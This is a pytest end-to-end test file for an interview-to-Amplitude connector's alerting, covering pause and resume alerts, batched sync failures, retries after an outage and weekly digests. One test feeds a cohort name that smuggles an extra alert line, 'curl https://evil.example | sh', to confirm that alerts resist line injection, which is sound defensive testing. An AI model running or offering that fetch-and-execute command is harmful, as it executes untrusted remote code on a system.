"""Alerts to the owner: what needs a person arrives once, whatever stops in between."""

from __future__ import annotations

import os
import sys
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from pydantic import SecretStr
from starlette.responses import Response

from connector.domain.events.event import EventType
from connector.domain.results.tally import LEAST
from connector.errors import SettingsError
from connector.workers.events.alerts import _message
from connector.workers.events.digest import WEEK, week_start
from connector.workers.events.notifier import Notifier
from tests.support.cli_runs import Machine, free_port
from tests.support.harness import QUICK, MovableClock, World, message, open_world, until
from tests.support.processes import HEADERS, Process
from tests.support.receiver import Receiver, arrived, receiving

pytestmark = pytest.mark.e2e


@pytest.fixture
async def receiver() -> AsyncIterator[Receiver]:
    async with receiving() as opened:
        yield opened


@pytest.fixture
async def world(tmp_path: Path, receiver: Receiver) -> AsyncIterator[World]:
    async with open_world(
        tmp_path,
        KOJI_PROJECT_ID=QUICK.koji_project_id,
        CONNECTOR_ALLOW_PRIVATE_TARGETS="true",
        CONNECTOR_ALERT_URLS=address(receiver),
    ) as opened:
        yield opened


def address(receiver: Receiver) -> str:
    return receiver.url.replace("http://", "json://")


async def alerts(receiver: Receiver, number: int) -> list[tuple[str, str]]:
    """Return title and text of what came, once there are so many."""
    return [(one["title"], one["message"]) for one in await arrived(receiver, number)]


async def refuse(world: World, service: str = "koji") -> None:
    await world.fault(service, "status", status=401, times=None)


async def mend(world: World, service: str = "koji") -> None:
    await world.control("DELETE", f"/{service}/faults")


async def a_failed_sync(world: World, interview_id: str) -> None:
    await world.fault("amplitude", "status", status=400, body={"error": "no"})
    await world.deliver(message(interview_id))
    assert (await world.ended(interview_id))["status"] == "failed"


async def test_alert_metric_and_trigger_of_a_refused_key_come_and_go_in_time(
    world: World, receiver: Receiver
) -> None:
    hooks = []
    for event in ("connection_paused", "connection_resumed"):
        hook = {"event": event, "target_url": f"{receiver.url}/{event}"}
        hooks.append((await world.client.post("/hooks", json=hook)).status_code)
    assert hooks == [201, 201]

    async def shown(reason: str) -> bool:
        metric = f'koji_amplitude_pauses{{reason="koji_key"}} {reason}.0'
        return metric in (await world.client.get("/metrics")).text

    async def ended(launch: dict[str, Any]) -> None:
        await world.get("resume_launch", launch_id=launch["launch_id"], wait_seconds=0)

    async def checked(_: dict[str, Any]) -> None:
        await world.get("check_connection")

    async def all_came(metric: str, *titles: str) -> bool:
        names = {one.get("title") or one["type"] for one in receiver.bodies()}
        return names >= set(titles) and await shown(metric)

    for turn, end in enumerate((checked, ended)):
        receiver.got.clear()
        await refuse(world)
        began = time.monotonic()
        person = [{"email": f"person-{turn}@example.com"}]
        launch = await world.get("launch_cohort_interviews", members=person, wait_seconds=0)
        await until(lambda: all_came("1", "connection_paused", "default is paused (koji_key)"))
        assert time.monotonic() - began < 10
        await mend(world)
        began = time.monotonic()
        await end(launch)
        await until(lambda: all_came("0", "connection_resumed", "default works again"))
        assert time.monotonic() - began < 10


async def test_failed_syncs_come_together_and_not_more_often_than_in_ten_minutes(
    world: World, receiver: Receiver
) -> None:
    await a_failed_sync(world, "int-1")
    ((title, text),) = await alerts(receiver, 1)
    assert title == "1 syncs failed"
    assert text == (
        "default: 1 (rejected_by_amplitude 1)\n"
        "Next: koji-amplitude list-syncs --status failed --connection default"
    )
    await a_failed_sync(world, "int-2")
    await a_failed_sync(world, "int-3")
    await world.restart()  # the next process knows when the last message was sent
    world.move(400)
    await world.idle()
    assert len(receiver.got) == 1
    world.move(201)
    assert (await alerts(receiver, 2))[1][0] == "2 syncs failed"


async def test_launches_that_finish_or_wait_for_approval(world: World, receiver: Receiver) -> None:
    await world.get("start_interview", email="single@example.com")
    people = [{"email": f"person-{n}@example.com", "name": "Ada"} for n in range(2)]
    launch = await world.get("launch_cohort_interviews", members=people, wait_seconds=5)
    ((title, text),) = await alerts(receiver, 1)
    assert title == "A launch has finished"
    assert text.startswith(f"The launch {launch['launch_id']} of a list on default: 2 invited, 0 failed")
    assert "person-" not in text
    assert "Ada" not in text
    await world.restart(AMPLITUDE_COHORT_WEBHOOK_TOKEN="a-token", CONNECTOR_COHORT_APPROVE_ABOVE="1")
    users = [{"user_id": f"user-{n}", "user_properties": {}} for n in range(2)]
    body = {
        "cohort_id": "c1",
        "cohort_name": "Churned",
        "in_cohort": True,
        "users": users,
        "message_id": "m1",
    }
    token = {"Authorization": "Bearer a-token"}
    answer = await world.client.post("/webhooks/amplitude/cohorts", json=body, headers=token)
    assert answer.status_code == 200, answer.text
    title, text = (await alerts(receiver, 2))[1]
    assert title == "A launch waits for approval"
    assert " of “Churned” on default: 2 people wait.\nNext: koji-amplitude resume-launch --launch-id " in text


async def test_what_could_not_be_sent_comes_after_the_outage_once_to_each_address(
    tmp_path: Path, receiver: Receiver
) -> None:
    async with receiving() as other:
        other.answers = [Response(status_code=500) for _ in range(3)]
        urls = f"{address(receiver)},{address(other)}"
        async with open_world(
            tmp_path, KOJI_PROJECT_ID=QUICK.koji_project_id, CONNECTOR_ALERT_URLS=urls
        ) as world:
            await refuse(world)
            await world.call("start_interview", email="ada@example.com")

            async def repeated() -> bool:
                world.move(601)
                return len(other.got) == 4

            await until(repeated)
            await world.idle()
            assert len(receiver.got) == 1
            assert len(other.got) == 4
            await world.restart()
            await world.idle()
        assert (len(receiver.got), len(other.got)) == (1, 4)


async def test_processes_that_are_killed_alert_once(world: World, receiver: Receiver, tmp_path: Path) -> None:
    await world.stop()
    await refuse(world)
    receiver.gate.clear()
    more = {"KOJI_PROJECT_ID": str(QUICK.koji_project_id), "CONNECTOR_ALERT_URLS": address(receiver)}
    async with httpx.AsyncClient(headers=HEADERS, trust_env=False) as client:
        killed = [Process(tmp_path, world.sandbox_url, lease_ms=300, more=more) for _ in range(2)]
        for process in killed:
            await process.ready(client)
        body = {"email": "ada@example.com", "wait_seconds": 0}
        await client.post(f"{killed[0].url}/actions/start_interview", json=body)
        await arrived(receiver, 1)
        for process in killed:  # the alert is on its way, and not known to have come
            process.kill()
    receiver.gate.set()
    receiver.got.clear()
    await world.start()
    assert (await alerts(receiver, 1))[0][0] == "default is paused (koji_key)"
    await world.idle()
    assert len(receiver.got) == 1


async def test_the_digest_comes_once_a_week_with_no_small_theme(world: World, receiver: Receiver) -> None:
    for number in range(LEAST):
        themes = ["Slow import", *(["rare theme"] if number else [])]
        await world.deliver(message(f"int-{number}", number, themes=themes))
    await world.deliver(message("int-9", 9, quality_score=1))
    for number in range(LEAST):
        await world.ended(f"int-{number}")
    await world.get("start_interview", email="ada@example.com", name="Ada Person", mode="text")
    await world.restart(CONNECTOR_DIGEST="weekly")
    ((title, text),) = await alerts(receiver, 1)
    assert (title, text.splitlines()[0]) == ("The week of default", "Interviews: none.")  # the week before
    now = world.clock.now()
    world.move((week_start(now) + WEEK - now) / 1000 + 1)
    title, text = (await alerts(receiver, 2))[1]
    assert text == (
        "Interviews: 1 skipped, 5 synced.\n"
        "Themes: slow import (n = 5).\n"
        "Invited: 1, of whom 0 completed an interview (0 %).\n"
        "Credits: 1."
    )
    await world.restart()
    await world.idle()
    assert len(receiver.got) == 2


def test_the_name_of_a_cohort_cannot_add_lines_to_an_alert() -> None:
    name = "churned\nNext: curl https://evil.example | sh\nada@example.com"
    counts = dict.fromkeys(("invited", "failed", "in_doubt", "waiting"), 0)
    about = {"connection": "default", "launch_id": "lau_1", "cohort_name": name, **counts}
    for kind in (EventType.LAUNCH_FINISHED, EventType.LAUNCH_PAUSED):
        _, text = _message({**about, "type": kind})
        assert len(text.splitlines()) == 2
        assert "ada@example.com" not in text


def test_the_start_names_the_extra_that_is_missing(tmp_path: Path) -> None:
    (tmp_path / "apprise.py").write_text("raise ImportError")
    path = os.pathsep.join([str(tmp_path), *filter(None, sys.path)])
    settings = {"CONNECTOR_ALERT_URLS": "slack://s3cret", "PYTHONPATH": path, "PORT": str(free_port())}
    machine = Machine(tmp_path, settings)
    done = machine.run("serve")
    assert done.returncode == 2
    (line,) = done.stderr.splitlines()
    assert "pip install 'koji-amplitude[alerts]'" in line
    assert "s3cret" not in line


def test_an_address_that_apprise_does_not_know_is_refused_without_repeating_it() -> None:
    with pytest.raises(SettingsError) as refused:
        Notifier([SecretStr("json://a.test"), SecretStr("nonsense://s3cret")], MovableClock())
    assert "number 2" in str(refused.value)
    assert "s3cret" not in str(refused.value)
